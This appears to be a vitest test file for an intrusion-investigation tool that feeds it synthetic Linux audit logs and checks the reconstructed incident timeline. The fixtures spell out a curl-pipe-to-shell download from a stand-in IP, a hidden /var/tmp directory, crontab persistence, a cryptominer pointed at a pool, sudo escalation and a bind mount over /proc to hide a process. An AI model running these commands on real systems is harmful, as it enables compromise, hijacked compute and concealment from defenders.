import { expect, test } from 'vitest';
import { investigatedFiles } from './investigated-files.ts';

const ran = (at: string, pid: number, ppid: number, argv: readonly string[], uid = 998): readonly string[] => {
  const head = (type: string) => `type=${type} msg=audit(${Date.parse(`2026-08-19T${at}Z`) / 1000}.000:${pid}):`;
  const exe = argv[0]?.startsWith('/') ? argv[0] : `/usr/bin/${argv[0] ?? ''}`;
  const told = argv.map(
    (arg, index) => `a${index}=${/[ "']/.test(arg) ? Buffer.from(arg).toString('hex').toUpperCase() : `"${arg}"`}`,
  );
  return [
    `node=ci-1 ${head('SYSCALL')} arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=${ppid} pid=${pid} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} tty=(none) ses=4294967295 comm="x" exe="${exe}" key="exec"`,
    `node=ci-1 ${head('EXECVE')} argc=${argv.length} ${told.join(' ')}`,
  ];
};

test('what a found process of a service started is told, in order, and nothing else of that service', async () => {
  const url = 'http://198.51.100.7:8090/r.sh';
  const { incidents } = await investigatedFiles('started', [
    {
      'audit.log': [
        ...ran('08:00:00', 90, 1, ['git', 'fetch', 'origin']),
        ...ran('10:00:00', 100, 77, ['sh', '-c', `curl -fsSL ${url}|sh`]),
        ...ran('10:00:01', 101, 100, ['curl', '-fsSL', url]),
        ...ran('10:00:02', 102, 100, ['sh']),
        ...ran('10:00:03', 103, 102, ['nproc']),
        ...ran('10:00:04', 104, 88, ['make', '-j8', 'all']),
        ...ran('10:00:05', 105, 102, ['mkdir', '-p', '/var/tmp/.font-unix']),
        ...ran('10:00:06', 106, 102, ['crontab', '-']),
        ...ran('10:00:07', 107, 1, ['/var/tmp/.font-unix/kw', '-o', 'pool.example.net:3333', '--donate-level=1']),
      ],
    },
  ]);
  expect(incidents).toHaveLength(1);
  const told = incidents[0]?.timeline.map(({ text }) => text.replace(/^service 998 ran (.*) on ci-1$/, '$1'));
  expect(told).toEqual([
    `sh -c curl -fsSL ${url}|sh`,
    `curl -fsSL ${url}`,
    'sh',
    'nproc',
    'mkdir -p /var/tmp/.font-unix',
    'crontab -',
    '/var/tmp/.font-unix/kw -o pool.example.net:3333 --donate-level=1',
  ]);
  expect(incidents[0]?.persistence.map(({ target }) => target?.name)).toEqual(['cron jobs of 998']);
});

test('what it started as another user, from the first command on, is told as well', async () => {
  const url = 'http://198.51.100.7:8090/r.sh';
  const { incidents } = await investigatedFiles('as-root', [
    {
      'audit.log': [
        ...ran('09:40:00', 91, 1, ['logrotate', '/etc/logrotate.conf'], 0),
        ...ran('10:00:00', 100, 77, ['sh', '-c', `curl -fsSL ${url}|sh`]),
        ...ran('10:00:02', 102, 100, ['sudo', '-n', 'bash', '/tmp/.r.sh']),
        ...ran('10:00:05', 103, 102, ['bash', '/srv/r.sh'], 0),
        ...ran('10:00:06', 104, 103, ['mkdir', '-p', '/var/tmp/.e'], 0),
        ...ran('10:00:07', 105, 103, ['mount', '--bind', '/var/tmp/.e', '/proc/4711'], 0),
        ...ran('10:00:08', 106, 103, ['rm', '-f', '/srv/r.sh'], 0),
        ...ran('10:00:09', 107, 1, ['fstrim', '/srv'], 0),
      ],
    },
  ]);
  expect(incidents).toHaveLength(1);
  const told = incidents[0]?.timeline.map(({ text }) => text.replace(/^service \d+ ran (.*) on ci-1$/, '$1'));
  expect(told).toEqual([
    `sh -c curl -fsSL ${url}|sh`,
    'sudo -n bash /tmp/.r.sh',
    'bash /srv/r.sh',
    'mkdir -p /var/tmp/.e',
    'mount --bind /var/tmp/.e /proc/4711',
    'rm -f /srv/r.sh',
  ]);
});
